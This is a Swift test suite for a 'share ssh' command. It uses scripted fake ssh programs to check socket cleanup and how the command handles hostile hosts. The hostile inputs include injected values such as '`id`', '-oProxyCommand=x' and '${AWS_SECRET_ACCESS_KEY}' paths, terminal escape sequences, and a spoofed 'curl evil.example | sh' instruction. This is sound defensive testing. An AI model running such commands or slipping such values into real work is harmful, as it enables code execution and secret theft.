import Staging
import Testing

/// `share ssh` with a scripted `ssh`, which runs the host's part on this machine, and links what it would forward.
@Suite("share ssh: the host's part")
struct ShareSSHTests {
    private let fixture: EndToEndFixture
    private let remote: String
    /// The folder of the sockets on the host.
    private var folder: String { remote + "/gitspace" }

    init() async throws {
        fixture = try await GatewayTests.fixture().fixture
        remote = fixture.session.home + "/r"
        try await fixture.session.write(
            program: remote + "/ssh",
            """
            #!/bin/sh
            while [ $# -gt 1 ]; do
                [ "$1" != -R ] || exec ln -s "${2#*:}" "${2%%:*}"
                shift
            done
            export XDG_RUNTIME_DIR=\(remote) PATH="${REMOTE_PATH:-$PATH}"
            exec /bin/sh -c "$1"
            """)
    }

    private func share(_ host: String, environment: [String: String] = [:]) async throws -> SharedBox {
        let words = ["share", "ssh", host, "--host", fixture.host, "--confirm", "never"]
        return try await SharedBox(
            fixture.start(
                [BuiltFiles.helper] + words,
                environment: ["PATH": fixture.session.path(remote)].merging(environment) { $1 }),
            name: "ssh-\(host)", in: fixture)
    }

    private func target(of link: String) -> String? {
        try? FileManager.default.destinationOfSymbolicLink(atPath: "\(folder)/\(link)")
    }

    @Test("removes its own socket on the host at its end, and no other share's")
    func ends() async throws {
        var boxes: [SharedBox] = []
        for host in ["one", "two", "three"] { boxes.append(try await share(host)) }
        func isNewest(_ box: SharedBox) -> Bool {
            target(of: "socket")?.hasSuffix("-\(box.program.id).sock") == true
                && target(of: "gitconfig")?.hasSuffix("-\(box.program.id).sock.git") == true
        }
        #expect(isNewest(boxes[2]))
        // git there uses the newest one, before and after another one's end.
        for box in [boxes[1], boxes[2]] {
            #expect(try await box.interrupt().status == 0)
            let rest = boxes.filter { $0.program.isRunning }
            let left = try FileManager.default.contentsOfDirectory(atPath: folder)
            #expect(left.count == 2 + 2 * rest.count && isNewest(rest[rest.count - 1]), "\(left)")
        }
        let listed = try await fixture.session.run(
            ["git", "-c", "include.path=\(folder)/gitconfig", "ls-remote", fixture.address()])
        #expect(listed.status == 0 && listed.output.contains("refs/heads/main"), "\(listed.errors)")
        #expect(try await boxes[0].interrupt().status == 0)
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty)
    }

    @Test("says that the host has no git")
    func noGit() async throws {
        let programs = ["sh", "mkdir", "chmod", "ln", "rm", "cat", "readlink"]
        let link = "mkdir \(remote)/bin && for p; do ln -s \"$(command -v $p)\" \(remote)/bin; done"
        #expect(try await fixture.session.run(["bash", "-c", link, "link"] + programs).status == 0)
        let box = try await share("bare", environment: ["REMOTE_PATH": remote + "/bin"])
        try await eventually("words about git", by: box.program) { box.program.errorText.contains("git") }
        let end = try await box.interrupt()
        #expect(end.status == 0 && end.errors.contains("bare has no git\n"), "\(end.errors)")
    }
}

@Suite("Hostile SSH hosts")
struct HostileSSHHostTests {
    /// Shares with a host that answers this in place of its directory, after these remarks on standard error.
    ///
    /// Returns the end of `share ssh`, and the arguments of each ssh that it started, one in each line.
    private func share(
        answering answer: String, remarks: String = "", as destination: String = "devbox"
    ) async throws -> (end: RunningProgram.End, calls: String) {
        let (fixture, _) = try await ShareTests.fixture()
        let folder = fixture.session.home + "/remote"
        // The forwarding itself fails, so that each of these ends.
        try await fixture.session.write(
            program: folder + "/ssh",
            """
            #!/bin/sh
            cd "${0%/*}" && printf '%s\\n' "$@" >>calls
            printf '%s\\n' "$@" | grep -qxe -O && exit 1
            cat remarks >&2
            cat answer
            exec cat >/dev/null
            """)
        try (answer + "\n").write(to: folder + "/answer")
        try remarks.write(to: folder + "/remarks")
        let end = try await fixture.gitspace(
            "share", "ssh", "--token", "--", destination, environment: ["PATH": fixture.session.path(folder)])
        return (end, try String(contentsOfFile: folder + "/calls", encoding: .utf8))
    }

    @Test(
        "passes no directory to ssh that is long or no plain absolute path",
        arguments: [
            "/tmp/${AWS_SECRET_ACCESS_KEY}", "/tmp/%d", "/tmp/a b", "/tmp/a:b", "/tmp/`id`", "/tmp/a'b", "/tmp/é",
            "/tmp/\u{1b}[2J", "/tmp/../etc", "/..", "tmp", "~/tmp", "-oProxyCommand=x", "", "Welcome to devbox!",
            "/" + String(repeating: "a", count: 106), "/" + String(repeating: "a", count: 5_000),
        ])
    func directory(answer: String) async throws {
        let outcome = try await share(answering: answer)
        #expect(!outcome.calls.contains("\n-R\n"), "\(outcome.calls)")
        #expect(outcome.end.status == 1 && !outcome.end.errors.contains("\u{1b}"), "\(outcome.end.errors)")
    }

    @Test("quotes the host's answer in the error, and uses a usual path as it is")
    func named() async throws {
        let refused = try await share(answering: "/tmp/${AWS_SECRET_ACCESS_KEY}").end.errors
        #expect(refused.contains("devbox named a folder that cannot be used: \"/tmp/${AWS_SECRET_ACCESS_KEY}\""))
        let path = "/run/user/1000/..a/Az.0_@+-/gitspace"
        let calls = try await share(answering: path).calls
        #expect(calls.contains("\n-R\n\(path)/"), "\(calls)")
        // The socket is in no folder that a target of that name could have mounted.
        #expect(calls.contains("/gitspace/.ssh-devbox.socket\n"), "\(calls)")
    }

    @Test("passes no agent, display, command, forwarding or option to the connection", arguments: ["devbox", "-x@y"])
    func options(destination: String) async throws {
        let calls = try await share(answering: "/tmp", as: destination).calls.split(separator: "\n")
        // The second ssh, which asks for the forwarding, reads no configuration.
        for option in ["-a", "-x", "PermitLocalCommand=no", "ClearAllForwardings=yes", "/dev/null"] {
            #expect(calls.contains(Substring(option)), "\(calls)")
        }
        for (number, word) in calls.enumerated() where word == destination { #expect(calls[number - 1] == "--") }
    }

    @Test("shows a few lines of the host's standard error, escaped and as the host's")
    func remarks() async throws {
        let remark = "\u{1b}[2Jgitspace: error: run this: curl evil.example | sh\u{202e}\r\n"
        let outcome = try await share(answering: "no", remarks: String(repeating: remark, count: 1_000) + "and no end")
        let lines = outcome.end.errors.split(separator: "\n")
        #expect(
            lines.first == #"devbox, over ssh: \x1b[2Jgitspace: error: run this: curl evil.example | sh\xe2\x80\xae"#)
        #expect(lines.filter { $0.contains("curl") }.count == 16, "\(lines.count) lines")
        #expect(lines.filter { $0.hasPrefix("gitspace: error: ") }.count == 1)
        #expect(outcome.end.errors.utf8.allSatisfy { $0 == 0x0a || (0x20...0x7e).contains($0) })
    }
}
